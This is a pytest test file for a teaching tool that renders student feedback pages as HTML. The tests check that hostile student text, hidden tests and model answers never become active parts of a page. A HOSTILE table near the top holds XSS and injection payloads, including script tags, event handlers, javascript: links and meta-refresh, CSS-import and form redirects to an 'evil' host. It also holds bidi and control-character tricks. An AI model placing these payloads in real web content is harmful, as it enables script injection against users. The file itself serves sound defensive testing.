"""Feedback pages: what a student reads, and that nothing a student wrote becomes part of the page."""

import base64
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.support import marking
from tito import sanitize
from tito.classroom import feedback, markdown, marks

ELEMENTS = {
    "html", "head", "meta", "title", "style", "body", "header", "main", "nav", "section", "footer", "div",
    "h1", "h2", "h3", "p", "ul", "li", "a", "bdi", "strong", "em", "span", "sub", "sup", "code", "pre",
    "table", "caption", "thead", "tbody", "tr", "th", "td", "details", "summary", "figure", "figcaption",
    "svg", "rect", "blockquote",
}  # fmt: skip
ATTRIBUTES = {
    "lang", "charset", "http-equiv", "content", "name", "class", "id", "href", "scope", "dir", "open",
    "tabindex", "role", "aria-label", "aria-labelledby", "aria-hidden", "focusable", "viewbox",
    "preserveaspectratio", "width", "height", "rel",
}  # fmt: skip
VOID = {"meta", "rect"}

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "closed style": "</style></pre></code><script>alert(1)</script><style>",
    "event": "\"><img src=x onerror=alert(1)> ' onmouseover='alert(1)",
    "svg": "<svg onload=alert(1)><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>",
    "css": "</style><style>@import 'http://evil/';*{background:url(http://evil/)}",
    "comment": "--><!-- <!--[if IE]><script>alert(1)</script>",
    "cdata": "]]><![CDATA[<x>",
    "entity": "&lt;script&gt;&#60;script&#62;&#x3c;b&#x3e;",
    "template": "{{ 7 * 7 }}{% raw %}{# #}${7*7}<%= 7 %>",
    "meta": '<meta http-equiv="refresh" content="0;url=http://evil/"><base href="http://evil/">',
    "link": "javascript:alert(1) [x](javascript:alert(1)) ![y](http://evil/y.png)",
    "form": "<form action=http://evil/><input name=p><button>go",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x><embed src=x>",
    "title": "</title><script>alert(1)</script>",
    "bidi": "\u202egnp.exe\u2066 \u200fright\u2069\u061c",
    "invisible": "a\u200bb\u2060c\ufeffd\U000e0041e\u00ade",
    "control": "a\x00b\x07c\x1b[2J\x1b]0;title\x07d\x7fe\x85f",
    "surrogate": "a\ud800b\udfffc",
    "nonchar": "a\ufffeb\U0010ffffc\ufdd0d",
    "piles": "Z" + "\u0301\u0489" * 500,
    "separators": "a\u2028b\u2029c\x0bd\x0ce\r\nf\rg",
    "wide": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "bars": "(9999999999999999999 of 3 values differ) (5 of 2 values differ)",
    "long word": "x" * 5000,
    "many lines": "line\n" * 5000,
    "spaces": " " * 5000 + "end",
}


class Page(HTMLParser):
    """The elements of a page in order, each with its attributes, and the text outside the style."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.elements, self.open, self.words, self.styles = [], [], [], []
        self.feed(text)
        self.close()
        assert self.open == []
        self.text = " ".join("".join(self.words).split())

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, tuple(attributes)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attributes):
        assert tag in VOID
        self.elements.append((tag, tuple(attributes)))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        (self.styles if self.open[-1:] == ["style"] else self.words).append(data)

    def handle_comment(self, data):
        raise AssertionError(f"comment {data!r}")

    def unknown_decl(self, data):
        raise AssertionError(f"declaration {data!r}")

    @property
    def skeleton(self):
        return [(tag, tuple(name for name, _ in pairs)) for tag, pairs in self.elements]


def pages(module, *students):
    """Write the pages and read them, by student."""
    found = marks.read(module)
    written = dict(feedback.write_pages(module.course.place("feedback"), found, students))
    return {who: path.read_text(encoding="utf-8") for who, path in written.items()}


def one(module, student="ada", **more):
    cases = more.pop("cases", None) or marking.tests("failed", message="expected 2, got 3")
    marking.journal(module, student, cases, **more)
    return pages(module, student)[student]


def harmless(text):
    page = Page(text)
    for tag, pairs in page.elements:
        assert tag in ELEMENTS
        for name, value in pairs:
            assert name in ATTRIBUTES and not name.startswith("on")
            if name == "href":
                assert re.fullmatch(r"#e\d+|https?://[^\s\"'<>]+", value)
    assert [tag for tag, _ in page.elements].count("style") == 1
    shown = text.replace("\n", "")
    assert [c for c in set(shown) if sanitize.text(f"a{c}a") != f"a{c}a"] == []
    return page


def tito(*words, course, **environment):
    return subprocess.run(
        [sys.executable, "-m", "tito", "--course", str(course), *words],
        capture_output=True,
        text=True,
        encoding="utf-8",
        cwd=course,
        env=os.environ | environment,
    )


def test_a_page_says_what_failed_and_why(tiny):
    message = "at [1] expected 2, got 3 (2 of 4 values differ)\nlook at: the sign"
    text = one(tiny, cases=marking.tests("failed", "timeout", message), repairs=["an id was lost"])
    page = harmless(text)
    for words in (
        "Feedback for ada",
        "0 of 5 points",
        "Every value is doubled. ✗"[:23],
        "at [1] expected 2, got 3",
        "2 of 4 values differ, 50 %.",
        "Look at: the sign",
        "took too long",
        "an id was lost",
    ):
        assert words in page.text
    assert ("rect", (("class", "wrong"), ("width", "50.0"), ("height", "6"))) in page.elements


@pytest.mark.parametrize("status", sorted(feedback.WORDS))
def test_every_status_has_words_of_its_own(tiny, status):
    page = harmless(one(tiny, cases=marking.tests(status, status, "why")))
    assert page.text.count(feedback.WORDS[status]) >= 2
    assert ("why" in page.text) == (status != "not_started")


def test_what_was_asked_comes_from_the_lesson(tiny):
    source = tiny.source.read_text(encoding="utf-8")
    head, mark, tail = source.partition('# %% nbgrader={"grade": false, "grade_id": "double"')
    lesson = '# %% [markdown]\nr"""\n## 1. Twice\n\nIt is $y_i = 2 x_i$ <b>now</b>. Write `double`.\n"""\n\n'
    tiny.source.write_text(head + lesson + mark + tail, encoding="utf-8")
    text = one(tiny)
    assert '<h2 id="e1">1. Twice <code>double</code></h2>' in text
    assert "y<sub>i</sub> = 2 x<sub>i</sub>" in text and "&lt;b&gt;now&lt;/b&gt;" in text
    harmless(text)


def test_the_model_answer_of_a_written_question_is_not_shown(tiny):
    source = tiny.source.read_text(encoding="utf-8")
    head, mark, tail = source.partition('# %% nbgrader={"grade": false, "grade_id": "double"')
    lesson = (
        '# %% [markdown]\nr"""\n## 1. Twice\n\nWhy two?\n"""\n\n'
        '# %% [markdown] nbgrader={"grade": true, "grade_id": "why", "locked": false, "points": 1, '
        '"schema_version": 3, "solution": true}\nr"""\nBecause MODEL ANSWER.\n"""\n\n'
    )
    tiny.source.write_text(head + lesson + mark + tail, encoding="utf-8")
    text = one(tiny)
    assert "Why two?" in text and "MODEL ANSWER" not in text


def test_no_word_of_a_hidden_test_is_shown(tiny):
    secret = "SECRET np.empty(0) expected (0,)"
    for status in sorted(feedback.WORDS):
        text = one(tiny, cases=marking.tests("failed", status, "told", secret))
        assert "SECRET" not in text and "np.empty" not in text and "assert" not in text
        assert "Nothing doubled is nothing." in text and "told" in text


def test_a_test_that_the_lesson_hides_stays_hidden_whatever_the_journal_says(tiny):
    cases = marking.tests("failed", "failed", "told", "SECRET")
    cases[1]["hidden"] = False
    assert "SECRET" not in one(tiny, cases=cases)
    cases[0]["hidden"] = "no"
    assert "told" not in one(tiny, cases=cases)


def test_the_policy_allows_the_one_style_and_nothing_else(tiny):
    page = harmless(one(tiny))
    policy = next(
        dict(given)["content"] for tag, given in page.elements if "http-equiv" in dict(given)
    )
    digest = base64.b64encode(hashlib.sha256("".join(page.styles).encode()).digest()).decode()
    assert policy == (
        f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )
    assert "@import" not in page.styles[0] and "url(" not in page.styles[0]


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_text_never_becomes_part_of_the_page(tiny, name):
    bad = HOSTILE[name]
    for student, words in (("quiet", "x"), ("loud", bad)):
        handed_in = tiny.course.place("submitted") / student / tiny.name
        handed_in.mkdir(parents=True)
        (handed_in / "timestamp.txt").write_bytes(words.encode(errors="replace")[:4000])
    quiet = Page(one(tiny, "quiet", repairs=["x"], walls="x"))
    text = one(
        tiny,
        "loud",
        cases=marking.tests("failed", message=bad),
        repairs=[bad],
        walls=bad,
    )
    page = harmless(text)
    assert page.skeleton == quiet.skeleton
    assert len(text) < 40_000


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_titles_and_ids_of_tests_are_text_too(tiny, name):
    bad = HOSTILE[name]
    case = marking.case(bad, "failed", bad, title=bad, exercise=bad)
    text = one(tiny, cases=[case])
    harmless(text)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_students_are_refused_or_shown_as_text(tiny, name):
    bad = HOSTILE[name].replace("/", "_").replace("\x00", "")[:80]
    try:
        marking.journal(tiny, bad, marking.tests("failed"))
    except UnicodeEncodeError:
        pytest.skip("no file can have this name")
    marking.journal(tiny, "ada")
    found = marks.read(tiny)
    written = dict(feedback.write_pages(tiny.course.place("feedback"), found))
    assert "ada" in written and len(written) + len(found.failed) == 2
    for path in written.values():
        assert path.is_relative_to(tiny.course.place("feedback"))
        harmless(path.read_text(encoding="utf-8"))


@given(st.text(), st.text(alphabet="<>&\"'`=/!-{}%# \n\x00\x1bscript"))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])  # the course is only read
def test_no_text_changes_the_elements_of_a_page(tiny, one, other):
    asked, texts = feedback.exercises(tiny), []
    for message in ("x", one + other + one):
        test = marks.Test(
            "a",
            sanitize.line(message),
            "double",
            0.0,
            1.0,
            False,
            "error",
            "m" + sanitize.text(message),
        )
        mark = marks.Mark(
            tiny.name, "ada", marks.JOURNAL, (test,), repairs=(sanitize.line(message),)
        )
        texts.append(feedback.page(tiny, mark, asked))
    assert harmless(texts[0]).skeleton == harmless(texts[1]).skeleton


def test_ten_megabytes_make_no_larger_a_page_than_two_kilobytes(tiny):
    text = one(tiny, cases=marking.tests("failed", message="<b>" * 3_500_000))
    assert len(text) < 40_000 and "(cut: 10500000 characters)" in text
    harmless(text)


def test_comments_names_and_penalties_of_the_gradebook_are_shown_as_text(tiny):
    bad = HOSTILE["closed style"] + HOSTILE["bidi"]
    marking.journal(tiny, "ada", marking.tests("failed", message="why"))
    grades = {"double_of_an_array": (0, 1.5, False), "double_of_nothing": (3, None, False)}
    about = {
        "grades": grades,
        "penalty": 0.5,
        "first_name": bad,
        "last_name": "Lovelace",
        "comments": {"double": "Good names.", "double_of_an_array": f"See me.{bad}"},
    }
    marking.gradebook(tiny, {"ada": about})
    page = harmless(pages(tiny)["ada"])
    for words in (
        "4 of 5 points",
        "The work earned 4.5 points; 0.5 are taken off",
        "marked by a person",
        "Good names.",
        "See me.",
        "Lovelace",
        "handed in 2026-11-20 12:00:00 UTC",
    ):
        assert words in page.text


def test_a_student_graded_by_nbgrader_alone_has_a_page(tiny):
    grades = {"double_of_an_array": (2, None, False), "double_of_nothing": (0, None, True)}
    marking.gradebook(tiny, {"ada": {"grades": grades}})
    page = harmless(pages(tiny)["ada"])
    assert "2 of 5 points" in page.text and "waits for a person" in page.text


def test_pages_are_the_same_to_the_byte_with_and_without_attackers(tiny):
    for student in ("ada", "grace"):
        marking.journal(tiny, student, marking.tests("failed", message="expected 2, got 3"))
    quiet = pages(tiny)
    for number, bad in enumerate(HOSTILE.values()):
        cases = marking.tests("failed", message=bad)
        marking.journal(tiny, f"mallory{number}", cases, repairs=[bad])
    marking.journal(tiny, "nobody").write_text("{")
    loud = pages(tiny)
    assert {who: loud[who] for who in quiet} == quiet
    assert pages(tiny) == loud


def test_the_time_of_grading_is_not_on_the_page(tiny):
    times = {one(tiny, timestamp=f"2026-11-2{day}T12:00:00") for day in (1, 2)}
    assert len(times) == 1 and "2026-11-2" not in times.pop()


def test_files_that_nbgrader_needs_to_release_feedback_are_beside_the_page(tiny):
    handed_in = tiny.course.place("submitted") / "ada" / tiny.name
    handed_in.mkdir(parents=True)
    (handed_in / "timestamp.txt").write_text("2026-11-20 12:00:00 UTC")
    secret = tiny.course.root / "secret"
    secret.write_text("another student's")
    (handed_in / "submission_secret.txt").symlink_to(secret)
    one(tiny)
    folder = tiny.course.place("feedback") / "ada" / tiny.name
    assert sorted(path.name for path in folder.iterdir()) == ["timestamp.txt", "tiny_dev.html"]


def test_nbgrader_releases_the_pages(tiny, tmp_path_factory):
    from nbgrader.coursedir import CourseDirectory
    from nbgrader.exchange import Exchange
    from nbgrader.exchange.default import ExchangeReleaseFeedback
    from nbgrader.utils import notebook_hash
    from traitlets.config import Config

    graded = tiny.course.place("autograded") / "ada" / tiny.name
    graded.mkdir(parents=True)
    (graded / "timestamp.txt").write_text("2026-11-20 12:00:00 UTC")
    (graded / "submission_secret.txt").write_text("abc")
    text = one(tiny)
    exchange = tmp_path_factory.mktemp("exchange")
    config = Config()
    config.CourseDirectory.root = str(tiny.course.root)
    config.CourseDirectory.course_id = tiny.course.course_id
    config.CourseDirectory.assignment_id = tiny.name
    config.CourseDirectory.feedback_directory = "build/feedback"
    config.Exchange.root = str(exchange)
    os.chmod(exchange, 0o777)
    assert Exchange
    ExchangeReleaseFeedback(coursedir=CourseDirectory(config=config), config=config).start()
    name = notebook_hash(secret="abc", notebook_id="tiny_dev")
    [released] = exchange.rglob("*.html")
    assert released.name == f"{name}.html" and released.read_text(encoding="utf-8") == text


BROKEN = {
    "empty": b"",
    "no json": b"{",
    "not utf-8": b"\xff\xfe{}\x80",
    "a list": b"[]",
    "deep": b"[" * 200_000,
    "a number": b"1",
    "huge number": b'{"schema": ' + b"9" * 10_000 + b"}",
}


@pytest.mark.parametrize("name", sorted(BROKEN))
def test_a_broken_journal_stops_nobody_else(tiny, name):
    marking.journal(tiny, "ada")
    marking.journal(tiny, "bob").write_bytes(BROKEN[name])
    found = marks.read(tiny)
    assert [mark.student for mark in found.marks] == ["ada"]
    [(student, why)] = found.failed
    assert student == "bob" and "\n" not in why and len(why) < 300


@pytest.mark.parametrize(
    "change",
    [
        {"schema": 2},
        {"module": "02_other"},
        {"student": "ada"},
        {"tests": None},
        {"tests": [1]},
        {"tests": {}},
        {"tests": [marking.case("a", points=float("nan"))]},
        {"tests": [marking.case("a", points=float("inf"))]},
        {"tests": [marking.case("a", points=True)]},
        {"tests": [marking.case("a", points="1")]},
        {"tests": [marking.case("a", status="great")]},
        {"tests": [marking.case("a", status=[])]},
        {"tests": [marking.case("a"), marking.case("a")]},
        {"tests": [{"id": "a"}]},
        {"tests": [marking.case("a")] * 3000},
        {"repairs": "text"},
        {"repairs": {"a": 1}},
    ],
    ids=lambda change: json.dumps(change)[:40],
)
def test_a_journal_of_the_wrong_shape_is_refused(tiny, change):
    marking.journal(tiny, "bob", **change)
    found = marks.read(tiny)
    assert found.marks == [] and [student for student, _ in found.failed] == ["bob"]


def test_a_folder_named_like_a_journal_stops_nobody_else(tiny):
    marking.journal(tiny, "ada").with_name("bob.json").mkdir()
    os.mkfifo(tiny.course.build / "grades" / tiny.name / "eve.json")
    found = marks.read(tiny)
    assert [mark.student for mark in found.marks] == ["ada"]
    assert sorted(student for student, _ in found.failed) == ["bob", "eve"]


def test_the_command_prints_the_pages_and_one_error(tiny):
    root = tiny.course.root
    marking.journal(tiny, "ada")
    marking.journal(tiny, "bob").write_text("{")
    run = tito("feedback", "tiny", course=root)
    assert run.returncode == 3
    assert run.stdout.replace(os.sep, "/") == "build/feedback/ada/01_tiny/tiny_dev.html\n"
    lines = run.stderr.splitlines()
    assert [line.partition(":")[0] for line in lines] == ["01_tiny", "error", "hint"]
    assert "bob" in lines[1] and "not JSON" in lines[1]


def test_the_command_speaks_json(tiny):
    marking.journal(tiny, "ada")
    run = tito("feedback", "-m", "tiny", "--json", "--output", "pages", course=tiny.course.root)
    document = json.loads(run.stdout)
    assert run.returncode == 0 and document["schema"] == 1 and document["failed"] == []
    [page] = document["pages"]
    assert page["student"] == "ada"
    assert (tiny.course.root / page["path"]).is_file()
    assert not list(tiny.course.place("feedback").rglob("*.html"))


@pytest.mark.parametrize(
    ("words", "code", "said"),
    [
        (["tiny"], 3, "nobody's 01_tiny is graded"),
        ([], 2, "no module given"),
        (["tinny"], 2, "did you mean tiny?"),
    ],
)
def test_an_empty_class_and_a_wrong_module_are_named(tiny, words, code, said):
    run = tito("feedback", *words, course=tiny.course.root)
    assert run.returncode == code and said in run.stderr and len(run.stderr.splitlines()) == 2


def test_an_unknown_student_is_named_with_a_near_one(tiny):
    marking.journal(tiny, "lovelace")
    run = tito("feedback", "tiny", "--student", "lovelance", course=tiny.course.root)
    assert run.returncode == 2 and "did you mean lovelace?" in run.stderr
    assert len(run.stderr.splitlines()) == 2


def test_a_folder_that_cannot_be_written_is_one_error(tiny):
    for student in ("ada", "bob"):
        marking.journal(tiny, student)
    tiny.course.place("feedback").parent.mkdir(exist_ok=True)
    tiny.course.place("feedback").write_text("a file")
    run = tito("feedback", "tiny", course=tiny.course.root)
    assert run.returncode == 3 and "cannot write" in run.stderr
    assert sum(line.startswith("error: ") for line in run.stderr.splitlines()) == 1
    assert "Traceback" not in run.stderr


def test_a_gradebook_that_cannot_be_read_is_an_error(tiny):
    marking.journal(tiny, "ada")
    (tiny.course.build / "gradebook.db").write_text("no database, " * 200)
    run = tito("feedback", "tiny", course=tiny.course.root)
    assert run.returncode == 3 and "cannot read the gradebook" in run.stderr
    assert len(run.stderr.splitlines()) == 2


def test_two_runs_at_once_write_the_same_pages(tiny):
    for number in range(30):
        marking.journal(tiny, f"s{number:02}", marking.tests("failed", message="x" * 1000))
    alone = pages(tiny)
    shutil.rmtree(tiny.course.place("feedback"))
    command = [sys.executable, "-m", "tito", "--course", str(tiny.course.root), "feedback", "tiny"]
    runs = [
        subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE) for _ in "ab"
    ]
    for run in runs:
        assert run.communicate()[1].count(b"error") == 0 and run.returncode == 0
    folder = tiny.course.place("feedback")
    assert {
        path.parts[-3]: path.read_text(encoding="utf-8") for path in folder.rglob("*.html")
    } == alone
    assert not [path for path in folder.rglob("*") if path.is_file() and path.suffix != ".html"]


def test_headings_go_down_one_step_at_a_time_and_tables_have_headers(tiny):
    page = Page(one(tiny, repairs=["x"]))
    levels = [int(tag[1]) for tag, _ in page.elements if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(b <= a + 1 for a, b in pairwise(levels))
    tags = [tag for tag, _ in page.elements]
    assert [tags.count(tag) for tag in ("header", "main", "nav", "footer")] == [1, 1, 1, 1]
    assert all("scope" in dict(given) for tag, given in page.elements if tag == "th")
    ids = [dict(given)["id"] for _, given in page.elements if "id" in dict(given)]
    named = [dict(g)["aria-labelledby"] for _, g in page.elements if "aria-labelledby" in dict(g)]
    assert len(ids) == len(set(ids)) and set(named) <= set(ids)


def test_every_colour_of_text_stands_out_from_both_backgrounds():
    style = Path(feedback.__file__).with_name("feedback.css").read_text(encoding="utf-8")
    themes = re.findall(r":root \{(.*?)\}", style, flags=re.DOTALL)
    assert len(themes) == 3  # light, dark, print
    for theme in themes:
        colours = dict(re.findall(r"--(\w+): (#[0-9a-f]+)", theme))
        for name in ("ink", "soft", "good", "bad", "calm", "link"):
            for ground in ("paper", "panel"):
                assert _contrast(colours[name], colours[ground]) >= 4.5


def _contrast(one, other):
    light, dark = sorted((_luminance(one), _luminance(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def _luminance(colour):
    digits = colour.lstrip("#")
    digits = "".join(2 * c for c in digits) if len(digits) == 3 else digits
    parts = [int(digits[i : i + 2], 16) / 255 for i in (0, 2, 4)]
    linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize(
    ("tex", "shown"),
    [
        (r"\frac{1}{1 + e^{-x}}", "(1) / (1 + e<sup>-x</sup>)"),
        (r"p_i^\text{teacher}", "p<sub>i</sub><sup>teacher</sup>"),
        (r"a < b \le c", "a &lt; b ≤ c"),
        (r"\unknown{x}", "unknownx"),
    ],
)
def test_formulas_read_without_a_typesetter(tex, shown):
    assert markdown.formula(tex) == shown


def test_a_lesson_can_bring_no_script_image_or_inline_style():
    made = markdown.render(
        "<script>x</script>\n\n[a](javascript:alert(1)) ![b](http://c/d.png) `$x$`\n\n"
        "| a | b |\n| :-- | --: |\n| <i> | 2 |\n\n$$<b>$$\n"
    )
    tags = set(re.findall(r"<(\w+)", made))
    assert tags == {"p", "code", "table", "thead", "tbody", "tr", "th", "td", "div"}
    assert "style=" not in made and "src=" not in made and "javascript" not in made


@pytest.mark.slow
def test_a_browser_runs_and_loads_nothing(tiny):
    browser = (
        shutil.which("chromium")
        or shutil.which("chromium-browser")
        or shutil.which("google-chrome")
    )
    if not browser:
        pytest.skip("no chromium")
    everything = "\n".join(
        HOSTILE[name] for name in HOSTILE if name not in ("many lines", "spaces")
    )
    probe = "<img src=x onerror=document.title='OWNED'><script>document.title='OWNED'</script>"
    cases = [marking.case("a", "failed", probe + everything, title=probe)]
    one(tiny, cases=cases, repairs=[probe, *HOSTILE.values()])
    path = tiny.course.place("feedback") / "ada" / tiny.name / "tiny_dev.html"
    run = subprocess.run(
        [browser, "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", path.as_uri()],
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=120,
    )
    assert run.returncode == 0
    assert "<title>Tiny: feedback for ada</title>" in run.stdout
    assert "<script" not in run.stdout and "<img" not in run.stdout
